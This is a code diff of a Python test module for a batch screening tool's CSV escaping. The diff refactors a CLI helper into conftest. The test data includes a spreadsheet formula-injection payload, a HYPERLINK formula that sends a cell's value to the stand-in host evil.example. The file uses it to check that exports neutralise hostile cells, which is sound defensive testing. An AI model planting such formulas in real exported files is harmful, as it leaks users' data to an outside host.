@@ -13,7 +13,8 @@ from screener.batch import outputs, safe_io
 from screener.batch.safe_io import csv_cell, csv_cell_sql, csv_text
 from screener.cli.main import main
 
-from .conftest import AS_OF, RULES, variant, write_jsonl
+from .conftest import batch_cli as cli
+from .conftest import variant, write_jsonl
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -27,23 +28,6 @@ HOSTILE = [
 HARMLESS = ["p-1", "a=b", "plain", " =leading space", "x'y"]
 # a text that starts with the escape itself gets one more, so that reading back is exact
 ESCAPE_LIKE = ["'quoted", "'=1+1", "''"]
-
-
-def cli(out: Path, *inputs_: Path, extra: tuple[str, ...] = ()) -> list[str]:
-    return [
-        "batch",
-        *map(str, inputs_),
-        "--rules",
-        str(RULES),
-        "--as-of",
-        AS_OF.isoformat(),
-        "--out",
-        str(out),
-        "--workers",
-        "1",
-        "--no-progress",
-        *extra,
-    ]
 
 
 def patients(ids: list[str]) -> list[dict[str, Any]]:
